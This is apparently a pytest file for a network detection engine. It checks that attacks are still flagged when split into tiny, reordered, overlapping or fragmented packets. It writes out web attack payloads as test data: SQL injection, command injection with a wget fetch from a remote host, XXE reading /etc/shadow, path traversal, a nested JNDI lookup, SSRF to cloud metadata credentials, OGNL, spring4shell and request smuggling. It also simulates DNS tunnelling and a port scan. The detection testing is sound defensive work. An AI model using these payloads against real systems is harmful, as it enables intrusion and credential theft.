"""Every attack class of kubeguard.net.detect, through the whole engine, still detected under
evasion: 1-byte TCP segments, reordering, overlapping junk retransmissions, IP fragmentation,
and mixed encodings. The rules raised under each evasion must equal those of the plain case."""

from __future__ import annotations

import struct

import pytest
from dpiutil import run_engine, tcp, udp

from kubeguard.net.pcapgen import Conversation, dns_query, ether, ip_packets, tcp_segment

EVASIONS = {
    "1-byte segments": {"segment": 1},
    "reordered": {"segment": 5, "reorder": True},
    "overlapping junk": {"segment": 4, "overlap": True},
    "reordered + overlaps": {"segment": 3, "reorder": True, "overlap": True},
    "ip fragments": {"fragment": 24},
}


def http(method: str, uri: str, headers: dict[str, str] | None = None, body: bytes = b"") -> bytes:
    lines = [f"{method} {uri} HTTP/1.1", "Host: shop.svc.cluster.local", "User-Agent: curl/8.5.0"]
    lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


HTTP_ATTACKS = {
    "sqli": http("GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
    "sqli double-encoded": http("GET", "/products?id=1%2527%2520OR%25201%253D1--"),
    "command injection in json": http("POST", "/api/convert", {"Content-Type": "application/json"},
                                      b'{"file":"a.png; cat /etc/passwd","opts":{"q":"$(id)"}}'),
    "command injection in xml": http("POST", "/api/soap", {"Content-Type": "text/xml"},
                                     b"<req><host>127.0.0.1 &amp;&amp; wget http://198.51.100.9/x -O /tmp/x</host>"
                                     b"</req>"),
    "xxe": http("POST", "/upload", {"Content-Type": "application/xml"},
                b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]><r>&x;</r>'),
    "traversal": http("GET", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd"),
    "jndi nested": http("GET", "/", {"X-Api-Version": "${${lower:j}ndi:${lower:l}dap://198.51.100.9:1389/a}"}),
    "ssrf metadata": http("GET", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    "ssrf metadata decimal": http("GET", "/fetch?url=http://2852039166/latest/meta-data/"),
    "ognl": http("GET", "/index.action", {"Content-Type": "%{(#_='multipart/form-data').(#cmd='id')}"}),
    "spring4shell": http("POST", "/app", {"Content-Type": "application/x-www-form-urlencoded"},
                         b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    "smuggling": b"POST /api HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                 b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n",
}


def _rules(result: object) -> set[str]:
    return {a.rule for a in result.alerts}  # type: ignore[attr-defined]


@pytest.mark.parametrize("name", sorted(HTTP_ATTACKS))
def test_http_attack_detected_under_every_evasion(name: str) -> None:
    messages = [(0, HTTP_ATTACKS[name]), (1, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")]
    plain = _rules(tcp(messages))
    assert plain, f"{name}: no detection at all"
    for evasion, options in EVASIONS.items():
        assert _rules(tcp(messages, **options)) == plain, (name, evasion)


def test_benign_http_is_quiet() -> None:
    for req in (http("GET", "/api/v1/items?page=2&sort=price"),
                http("POST", "/api/v1/orders", {"Content-Type": "application/json"},
                     b'{"item": 42, "qty": 1, "note": "please ring the bell"}')):
        assert _rules(tcp([(0, req)], segment=1)) == set()


def _mysql_query(text: str) -> bytes:
    payload = b"\x03" + text.encode()
    return len(payload).to_bytes(3, "little") + b"\x00" + payload


def test_sql_injection_on_the_mysql_wire() -> None:
    from test_dpi_identify_wire import _mysql_greeting

    login = b"\x20\x00\x00\x01" + b"\x00" * 32
    ok = b"\x07\x00\x00\x02\x00\x00\x00\x02\x00\x00\x00"
    attack = _mysql_query("SELECT * FROM users WHERE name = 'x' OR '1'='1' -- ' AND pass = 'y'")
    messages = [(1, _mysql_greeting()), (0, login), (1, ok), (0, attack)]
    plain = _rules(tcp(messages))
    assert plain
    for evasion in ("1-byte segments", "reordered + overlaps", "ip fragments"):
        assert _rules(tcp(messages, **EVASIONS[evasion])) == plain, evasion


def test_dns_tunnel_over_udp_and_fragments() -> None:
    import base64
    import random

    rng = random.Random(5)

    def write(w: object, fragment: int) -> None:
        ts = 1_700_000_000.0
        for i in range(300):
            chunk = base64.b32encode(rng.randbytes(35)).decode().rstrip("=").lower()
            name = f"{chunk[:50]}.{chunk[50:]}.{i}.t.tunnel-example.net"
            l4 = struct.pack("!HHHH", 40000 + i, 53, 8 + len(dns_query(name, "TXT")), 0) + dns_query(name, "TXT", i)
            for ip in ip_packets("10.244.1.9", "10.96.0.10", 17, l4, ident=i, fragment=fragment):
                ts += 0.01
                w.frame(ts, ether(ip, True))  # type: ignore[attr-defined]

    plain = _rules(run_engine(lambda w: write(w, 0)))
    assert plain
    assert _rules(run_engine(lambda w: write(w, 24))) == plain
    benign = udp([(0, dns_query("api.github.com"))])
    assert _rules(benign) == set()


def test_port_scan_seen_per_packet() -> None:

    def write(w: object) -> None:
        ts = 1_700_000_000.0
        for port in range(1, 200):
            ts += 0.001
            ip = ip_packets("10.244.1.66", "10.244.2.7", 6, tcp_segment(50000, port, 1, 0, 0x02))[0]
            w.frame(ts, ether(ip, True))  # type: ignore[attr-defined]

    rules = _rules(run_engine(write))
    assert rules
    quiet = run_engine(lambda w: Conversation(w, ("10.244.1.5", 40000), ("10.244.2.7", 80)).close())  # type: ignore
    assert _rules(quiet) == set()
